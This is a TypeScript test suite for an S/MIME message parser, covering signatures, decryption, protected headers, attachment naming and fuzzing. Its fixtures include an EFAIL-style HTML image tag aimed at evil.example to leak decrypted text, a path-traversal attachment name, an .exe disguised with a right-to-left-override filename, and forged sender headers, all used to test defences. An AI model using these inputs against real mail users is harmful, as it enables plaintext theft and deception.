import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { corpus } from '../../build/corpora.ts'
import { writePem } from '../asn1/pem.ts'
import { base64Text, latin1Bytes, latin1Text, utf8Bytes, utf8Text } from '../base/bytes.ts'
import { systemRandom } from '../base/random.ts'
import { expectSuccess } from '../base/result.ts'
import { type TestEntity, testNow, testPerson } from '../certificates/testPki.ts'
import { base64Lines } from '../mime/canonical.ts'
import { encrypt } from './cms/encrypt.ts'
import { type CmsSigner, certsOnly, signDetached, signOpaque } from './cms/sign.ts'
import { openMessage } from './open.ts'
import { openBudget } from './openBudget.ts'
import type { OpenedMessage } from './openedMessage.ts'

const anna = await testPerson('anna@sandbox.example')
const mallory = await testPerson('mallory@evil.example')

function signerOf({ certificate, key }: TestEntity): CmsSigner {
  return { certificate, chain: [], key, digest: 'sha256', signingTime: testNow }
}

async function joined(chunks: AsyncIterable<Uint8Array>): Promise<Uint8Array> {
  const all: Uint8Array[] = []
  for await (const chunk of chunks) all.push(chunk)
  return Buffer.concat(all)
}

const head = crlf('From: Anna <anna@sandbox.example>', 'To: b@x.example', 'Subject: outer', 'MIME-Version: 1.0')
const plainPart = crlf('Content-Type: text/plain', '', 'the signed text')

function crlf(...lines: string[]): string {
  return lines.join('\r\n')
}

async function signatureOver(content: string, by = anna): Promise<string> {
  return base64Lines(await signDetached([utf8Bytes(content)], signerOf(by)))
}

async function clearSigned(content: string, by = anna, signature?: string, ...extra: string[]): Promise<string> {
  return crlf(
    'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=sig',
    '',
    '--sig',
    content,
    '--sig',
    'Content-Type: application/pkcs7-signature; name=smime.p7s',
    'Content-Transfer-Encoding: base64',
    '',
    signature ?? (await signatureOver(content, by)),
    ...extra.flatMap((part) => ['--sig', part]),
    '--sig--',
    '',
  )
}

function cmsPart(der: Uint8Array, type = 'application/pkcs7-mime; name=smime.p7m'): string {
  return crlf(`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64', '', base64Lines(der))
}

function encrypted(content: string, cipher: 'aes-256-cbc' | 'aes-256-gcm' = 'aes-256-gcm'): Promise<Uint8Array> {
  const recipients = [{ certificate: anna.certificate }]
  return joined(expectSuccess(encrypt([utf8Bytes(content)], { recipients, cipher, random: systemRandom })))
}

async function opaque(content: string, by = anna): Promise<Uint8Array> {
  return joined(signOpaque([utf8Bytes(content)], signerOf(by)))
}

function mixed(...parts: string[]): string {
  return crlf(
    'Content-Type: multipart/mixed; boundary=mix',
    '',
    ...parts.flatMap((part) => ['--mix', part]),
    '--mix--',
    '',
  )
}

function open(bytes: Uint8Array | string): Promise<OpenedMessage> {
  const keys = [{ certificate: anna.certificate, key: anna.key }]
  return openMessage(typeof bytes === 'string' ? utf8Bytes(bytes) : bytes, { keys }).then(expectSuccess)
}

function shown(message: OpenedMessage): [string, boolean][] {
  return message.parts.map((part) => [utf8Text(part.content()).trim(), part.covered])
}

function codes(message: OpenedMessage): string[] {
  return message.notes.map(({ code }) => code)
}

function states(message: OpenedMessage): string[] {
  return message.signers.map(({ outcome }) => outcome.state)
}

describe('a signature', () => {
  it('covers the message when nothing stands outside of it', async () => {
    const message = await open(crlf(head, await clearSigned(plainPart)))
    expect(shown(message)).toEqual([['the signed text', true]])
    expect(message.signers.map(({ coversMessage }) => coversMessage)).toEqual([true])
    expect(message.layers).toMatchObject([
      { kind: 'clear-signed', state: 'verified', algorithms: { digest: 'SHA-256' } },
    ])
    expect(codes(message)).toEqual([])
  })

  it('holds when the file lost its carriage returns, and says so', async () => {
    const message = await open(crlf(head, await clearSigned(plainPart)).replace(/\r\n/g, '\n'))
    expect(states(message)).toEqual(['verified'])
    expect(codes(message)).toEqual(['line-ends-restored'])
  })

  it('breaks when one letter changes', async () => {
    const message = await open(crlf(head, await clearSigned(plainPart)).replace('signed text', 'signed test'))
    expect(states(message)).toEqual(['broken'])
    expect(shown(message)).toEqual([['the signed test', false]])
    expect(message.layers[0]?.state).toBe('broken')
    expect(message.malformedSignature).toBe(false)
  })

  it.each([
    ['cut short', (der: string) => der.slice(0, 200)],
    ['noise', () => 'AAAA'],
    ['absent', () => ''],
  ])('that is %s is malformed, not absent', async (_, damage) => {
    const signature = damage(await signatureOver(plainPart))
    const message = await open(crlf(head, await clearSigned(plainPart, anna, signature)))
    expect(message.malformedSignature).toBe(true)
    expect(message.layers).toMatchObject([{ kind: 'clear-signed', state: 'malformed' }])
    expect(shown(message)).toEqual([['the signed text', false]])
    expect(codes(message)).toEqual(['signature-unreadable'])
  })

  it('is missing where a multipart/signed has one part', async () => {
    const text = crlf(
      head,
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=s',
      '',
      '--s',
      plainPart,
      '--s--',
    )
    const message = await open(text)
    expect([message.malformedSignature, codes(message)]).toEqual([true, ['signature-missing']])
    expect(shown(message)).toEqual([['the signed text', false]])
  })

  it('does not cover a footer that a mailing list added', async () => {
    const footer = crlf('Content-Type: text/plain', '', 'list footer')
    const message = await open(crlf(head, mixed(await clearSigned(plainPart), footer)))
    expect(shown(message)).toEqual([
      ['the signed text', true],
      ['list footer', false],
    ])
    expect(message.signers.map(({ outcome, coversMessage }) => [outcome.state, coversMessage])).toEqual([
      ['verified', false],
    ])
    expect(codes(message)).toEqual(['signed-part-inside'])
  })

  it('does not cover a third part of its multipart/signed', async () => {
    const third = crlf('Content-Type: text/plain', '', 'not signed')
    const message = await open(crlf(head, await clearSigned(plainPart, anna, undefined, third)))
    expect(shown(message)).toEqual([
      ['the signed text', true],
      ['not signed', false],
    ])
    expect(message.signers[0]?.coversMessage).toBe(false)
    expect(codes(message)).toEqual(['extra-parts-in-signed'])
  })

  it('is over the part that is shown, not over content of its own', async () => {
    const own = base64Lines(await opaque(plainPart))
    const message = await open(
      crlf(head, await clearSigned(crlf('Content-Type: text/plain', '', 'another text'), anna, own)),
    )
    expect(states(message)).toEqual(['broken'])
    expect(codes(message)).toContain('signature-with-own-content')
  })

  it('that lost its multipart/signed is malformed', async () => {
    const stray = crlf(
      'Content-Type: application/pkcs7-signature; name=smime.p7s',
      'Content-Transfer-Encoding: base64',
      '',
      await signatureOver(plainPart),
    )
    const message = await open(crlf(head, mixed(plainPart, stray)))
    expect([message.malformedSignature, codes(message)]).toEqual([true, ['stray-signature']])
  })

  it('of a forwarded mail does not sign the mail that carries it', async () => {
    const forwarded = crlf('Content-Type: message/rfc822', '', 'From: boss@x.example', await clearSigned(plainPart))
    const message = await open(crlf(head, mixed(plainPart, forwarded)))
    expect(message.signers).toEqual([])
    expect(message.parts.map(({ kind, mediaType }) => [kind, mediaType])).toEqual([
      ['text', 'text/plain'],
      ['attachment', 'message/rfc822'],
    ])
  })

  it('by PGP is none of ours, and said', async () => {
    const text = crlf(
      head,
      'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s',
      '',
      '--s',
      plainPart,
      '--s',
      'Content-Type: application/pgp-signature',
      '',
      'x',
      '--s--',
    )
    const message = await open(text)
    expect([message.malformedSignature, message.layers.length, codes(message)]).toEqual([
      false,
      0,
      ['unsupported-signature-protocol'],
    ])
  })

  it.each([
    'application/pkcs7-mime; smime-type=signed-data',
    'application/x-pkcs7-mime',
    'application/octet-stream; name="smime.p7m"',
    'application/octet-stream; name="SMIME.P7M"',
  ])('is found in %s', async (type) => {
    const message = await open(crlf(head, cmsPart(await opaque(plainPart), type)))
    expect(states(message)).toEqual(['verified'])
    expect(message.signers[0]?.coversMessage).toBe(true)
    expect(shown(message)).toEqual([['the signed text', true]])
    expect(codes(message)).toEqual([])
  })

  it('is found behind a wrong smime-type', async () => {
    const message = await open(
      crlf(head, cmsPart(await opaque(plainPart), 'application/pkcs7-mime; smime-type=enveloped-data')),
    )
    expect([states(message), codes(message)]).toEqual([['verified'], ['smime-type-mismatch']])
  })

  it("on an attached file is the file's own business", async () => {
    const invoice = await joined(signOpaque([new Uint8Array([0x25, 0x50, 0x44, 0x46])], signerOf(anna)))
    const message = await open(
      crlf(head, mixed(plainPart, cmsPart(invoice, 'application/pkcs7-mime; name=invoice.pdf.p7m'))),
    )
    expect([message.layers.length, message.signers.length, codes(message)]).toEqual([0, 0, ['signed-attachment']])
    expect(message.parts[1]?.name).toBe('invoice.pdf.p7m')
  })
})

describe('an encrypted message', () => {
  it.each(['aes-256-cbc', 'aes-256-gcm'] as const)('with %s is opened', async (cipher) => {
    const message = await open(crlf(head, cmsPart(await encrypted(plainPart, cipher))))
    expect([message.encryption, message.authenticated]).toEqual(['decrypted', cipher === 'aes-256-gcm'])
    expect(shown(message)).toEqual([['the signed text', false]])
    expect(message.layers[0]?.recipients?.map(({ mine }) => mine)).toEqual([true])
  })

  it('around a signed one is opened down to the text, and through three layers too', async () => {
    const inner = cmsPart(await opaque(plainPart))
    const twice = await open(crlf(head, cmsPart(await encrypted(inner))))
    expect(twice.layers.map(({ kind }) => kind)).toEqual(['auth-enveloped', 'signed'])
    expect(twice.signers.map(({ layer, coversMessage }) => [layer, coversMessage])).toEqual([[1, true]])
    const thrice = await open(crlf(head, await clearSigned(cmsPart(await encrypted(inner, 'aes-256-cbc')), mallory)))
    expect(thrice.layers.map(({ kind }) => kind)).toEqual(['clear-signed', 'enveloped', 'signed'])
    expect(thrice.signers.map(({ coversMessage }) => coversMessage)).toEqual([true, true])
    expect(shown(thrice)).toEqual([['the signed text', true]])
  })

  it('inside a multipart stays apart from the HTML around it', async () => {
    const html = (text: string) => crlf('Content-Type: text/html', '', text)
    const message = await open(
      crlf(
        head,
        mixed(html('<img src="http://evil.example/'), cmsPart(await encrypted(plainPart, 'aes-256-cbc')), html('">')),
      ),
    )
    expect(message.parts.map(({ kind }) => kind)).toEqual(['html', 'text', 'html'])
    expect(utf8Text(message.parts[0]?.content() ?? new Uint8Array())).not.toContain('signed text')
    expect(message.notes).toMatchObject([{ code: 'encrypted-part-inside', severity: 'warning' }])
  })

  it('says what is wrong when it is damaged', async () => {
    const der = await encrypted(plainPart)
    der[der.length - 20] = (der[der.length - 20] ?? 0) ^ 1
    const message = await open(crlf(head, cmsPart(der)))
    expect(message.encryption).toBe('damaged')
    expect(message.parts.map(({ kind }) => kind)).toEqual(['attachment'])
    const cut = await open(crlf(head, cmsPart((await encrypted(plainPart)).subarray(0, 100))))
    expect(cut.encryption).toBe('malformed')
  })

  it('whose content is no MIME entity is shown as it is', async () => {
    const message = await open(crlf(head, cmsPart(await encrypted('just text, no header'))))
    expect([shown(message), codes(message)]).toEqual([[['just text, no header', false]], ['content-without-headers']])
  })

  it('in too many layers is over the budget', async () => {
    let part = plainPart
    for (let layer = 0; layer <= openBudget.depth; layer++) part = cmsPart(await opaque(part))
    expect(await openMessage(utf8Bytes(crlf(head, part)), { keys: [] })).toEqual({
      ok: false,
      error: { code: 'over-budget', limit: 'layers' },
    })
  })
})

describe('a file without any mail around it', () => {
  it.each([
    ['DER', (der: Uint8Array) => der],
    ['PEM', (der: Uint8Array) => utf8Bytes(writePem('PKCS7', der))],
    ['PEM of OpenSSL', (der: Uint8Array) => utf8Bytes(writePem('CMS', der))],
    ['base64', (der: Uint8Array) => utf8Bytes(base64Text(der))],
  ])('opens as %s', async (_, spell) => {
    const message = await open(spell(await opaque(crlf('From: anna@sandbox.example', 'Subject: inside', plainPart))))
    expect([states(message), message.subject, codes(message)]).toEqual([['verified'], 'inside', ['no-mail-header']])
    expect(message.from).toEqual([{ address: 'anna@sandbox.example' }])
    const sealed = await open(spell(await encrypted(plainPart)))
    expect([sealed.encryption, shown(sealed)]).toEqual(['decrypted', [['the signed text', false]]])
  })

  it('is malformed as a signature without its content', async () => {
    const message = await open(latin1Bytes(latin1Text(await signDetached([utf8Bytes(plainPart)], signerOf(anna)))))
    expect([message.malformedSignature, codes(message)]).toEqual([
      true,
      ['signature-without-content', 'no-mail-header'],
    ])
  })

  it('with nothing but certificates is that', async () => {
    const message = await open(certsOnly([anna.certificate]))
    expect(message.layers).toMatchObject([{ kind: 'certs-only', state: 'unpacked' }])
    expect([message.malformedSignature, message.signers.length]).toEqual([false, 0])
  })

  it.each(['', 'hello', '%PDF-1.7 …', '\x30\x03\x02\x01\x01'])('is no message when it is %j', async (text) => {
    expect(await openMessage(latin1Bytes(text), { keys: [] })).toEqual({ ok: false, error: { code: 'not-a-message' } })
  })
})

describe('header fields', () => {
  const hp = (fields: string, kind = 'clear') => crlf(fields, `Content-Type: text/plain; hp="${kind}"`, '', 'text')

  it('inside count when a signature protects them', async () => {
    const message = await open(crlf(head, await clearSigned(hp('From: anna@sandbox.example\r\nSubject: inner'))))
    expect([message.subject, message.headers.protection]).toEqual(['inner', 'clear'])
    // A field that somebody added outside isn't shown.
    expect(message.to).toEqual([])
    expect(message.headers.differences.map(({ name }) => name)).toContain('To')
  })

  it('are not protected by an hp parameter alone', async () => {
    const message = await open(
      crlf('From: a@x.example', 'Subject: s', 'Content-Type: text/plain; hp="cipher"', '', 'x'),
    )
    expect([message.headers.protection, codes(message)]).toEqual(['none', ['hp-without-protection']])
    const outside = await open(
      crlf(head, (await clearSigned(plainPart)).replace('boundary=sig', 'boundary=sig; hp="clear"')),
    )
    expect([outside.headers.protection, outside.subject]).toEqual(['none', 'outer'])
  })

  it('are not protected by a broken signature', async () => {
    const signed = crlf(head, await clearSigned(hp('From: anna@sandbox.example\r\nSubject: inner')))
    const message = await open(signed.replace('Subject: inner', 'Subject: forged'))
    expect([message.subject, message.headers.protection]).toEqual(['outer', 'none'])
  })

  it('say cipher without encryption, and unknown things, with a note', async () => {
    const stripped = await open(
      crlf(head, await clearSigned(hp('From: anna@sandbox.example\r\nSubject: inner', 'cipher'))),
    )
    expect(codes(stripped)).toEqual(['hp-cipher-unencrypted'])
    const unknown = await open(
      crlf(head, await clearSigned(hp('From: anna@sandbox.example\r\nSubject: inner', 'magic'))),
    )
    expect([codes(unknown), unknown.subject]).toEqual([['hp-unknown'], 'outer'])
  })

  it('with another sender inside count only with a signature of that sender', async () => {
    const inner = hp('From: Boss <boss@x.example>\r\nSubject: pay', 'cipher')
    const unsigned = await open(crlf(head, cmsPart(await encrypted(inner))))
    expect(unsigned.from).toEqual([{ name: 'Anna', address: 'anna@sandbox.example' }])
    expect(unsigned.notes).toMatchObject([{ code: 'from-mismatch', severity: 'error', data: { shown: 'outer' } }])
    expect(unsigned.headers.shown.find(({ name }) => name === 'From')?.value).toBe('Anna <anna@sandbox.example>')
    const byAnother = await open(crlf(head, cmsPart(await encrypted(await clearSigned(inner, mallory)))))
    expect(byAnother.from[0]?.address).toBe('anna@sandbox.example')
    const own = hp('From: mallory@evil.example\r\nSubject: s')
    const bound = await open(crlf(head, await clearSigned(own, mallory)))
    expect(bound.from).toEqual([{ address: 'mallory@evil.example' }])
    expect(codes(bound)).toEqual(['from-mismatch'])
  })

  it('of the older draft are read', async () => {
    const inner = crlf(
      'From: anna@sandbox.example',
      'Subject: inner',
      'Content-Type: text/plain; protected-headers="v1"',
      '',
      'x',
    )
    const message = await open(crlf(head, cmsPart(await encrypted(inner))))
    expect([message.headers.protection, message.subject]).toEqual(['draft', 'inner'])
  })

  it('of a forwarded mail are not taken for the wrapper of RFC 8551', async () => {
    const forwarded = crlf('Content-Type: message/rfc822', '', 'From: boss@x.example', 'Subject: pay', '', 'x')
    const message = await open(crlf(head, await clearSigned(forwarded)))
    expect([message.subject, message.headers.protection]).toEqual(['outer', 'none'])
    expect(message.parts.map(({ mediaType }) => mediaType)).toEqual(['message/rfc822'])
  })

  it('that stand twice are noted, the first counts, and every sender is named', async () => {
    const message = await open(crlf('From: a@x.example', 'From: b@x.example', 'Subject: one', 'Subject: two', '', 'x'))
    expect(message.from.map(({ address }) => address)).toEqual(['a@x.example', 'b@x.example'])
    expect(message.subject).toBe('one')
    expect(message.notes.map(({ code, data }) => [code, data['name']])).toEqual([
      ['duplicate-header', 'From'],
      ['duplicate-header', 'Subject'],
    ])
  })

  it('without a sender are read', async () => {
    expect((await open('Subject: s\r\n\r\nx')).from).toEqual([])
  })
})

describe('parts', () => {
  it('are decoded, named safely and told apart', async () => {
    const message = await open(
      crlf(
        head,
        mixed(
          crlf(
            'Content-Type: text/plain; charset=iso-8859-1',
            'Content-Transfer-Encoding: quoted-printable',
            '',
            'Gr=FC=DFe',
          ),
          crlf('Content-Type: text/html; charset=x-martian', '', '<p>hi</p>'),
          crlf(
            'Content-Type: image/png; name="=?utf-8?q?=2E=2E/=2E=2E/etc/b=C3=A4r=2Epng?="',
            'Content-ID: <a@b>',
            '',
            'x',
          ),
          crlf(
            'Content-Type: text/plain',
            "Content-Disposition: attachment; filename*0*=utf-8''%E2%80%AEgpj; filename*1=.exe",
            '',
            'x',
          ),
        ),
      ),
    )
    expect(message.parts.map(({ kind, name, contentId }) => [kind, name, contentId])).toEqual([
      ['text', undefined, undefined],
      ['html', undefined, undefined],
      ['attachment', 'bär.png', 'a@b'],
      ['attachment', 'gpj.exe', undefined],
    ])
    expect(shown(message)[0]).toEqual(['Grüße', false])
    expect(message.notes).toMatchObject([{ code: 'unknown-charset', data: { charset: 'x-martian' } }])
  })
})

describe('a mutated message', () => {
  it('always opens to a value, and a changed text is never called verified', async () => {
    const inner = await clearSigned(plainPart)
    const originals = [
      crlf(head, inner),
      crlf(head, cmsPart(await encrypted(inner))),
      crlf(head, cmsPart(await opaque(plainPart))),
    ].map(utf8Bytes)
    const keys = [{ certificate: anna.certificate, key: anna.key }]
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...originals),
        fc.array(fc.tuple(fc.nat(20_000), fc.constantFrom('flip', 'cut', 'insert'), fc.nat(255)), {
          minLength: 1,
          maxLength: 4,
        }),
        async (original, changes) => {
          let bytes = [...original]
          for (const [offset, change, byte] of changes) {
            const at = offset % bytes.length
            if (change === 'flip') bytes[at] = byte
            else if (change === 'insert') bytes.splice(at, 0, byte)
            else bytes = [...bytes.slice(0, at), ...bytes.slice(at + 1 + byte)]
            if (bytes.length === 0) bytes = [65]
          }
          const opened = await openMessage(Uint8Array.from(bytes), { keys })
          if (!opened.ok) return
          for (const part of opened.value.parts) {
            if (part.covered) expect(utf8Text(part.content())).toBe('the signed text')
          }
        },
      ),
      { numRuns: 500 },
    )
  })
})

function mailsIn(folder: string): string[] {
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name)
    if (statSync(path).isDirectory()) return mailsIn(path)
    return /\.(eml|txt|dat)$/.test(name) ? [path] : []
  })
}

for (const name of ['james-smime', 'mimekit']) {
  const folder = corpus(name)
  describe.skipIf(!folder)(`the mails of ${name}`, () => {
    const files = folder ? mailsIn(folder).filter((path) => !/SOURCE|LICENSE/.test(path)) : []
    it.each(files.map((path) => [path.slice((folder ?? '').length + 1), path]))(
      '%s opens or is no message',
      async (_, path) => {
        const opened = await openMessage(readFileSync(path), { keys: [] })
        if (!opened.ok) expect(opened.error.code).toBe('not-a-message')
        else for (const part of opened.value.parts) expect(part.content().length).toBe(part.size)
      },
    )
  })
}

const james = corpus('james-smime')
describe.skipIf(!james)('the signed mails of James', () => {
  it.each([
    'mail_with_signature.eml',
    'mail_with_signature_and_content_type_xpkcs7mime.eml',
    'mail-with-signature-and-multi-certs.eml',
  ])('%s verifies', async (file) => {
    const message = await open(readFileSync(join(james ?? '', 'smime-test-resource-set', file)))
    expect(states(message)).toEqual(['verified'])
  })
})
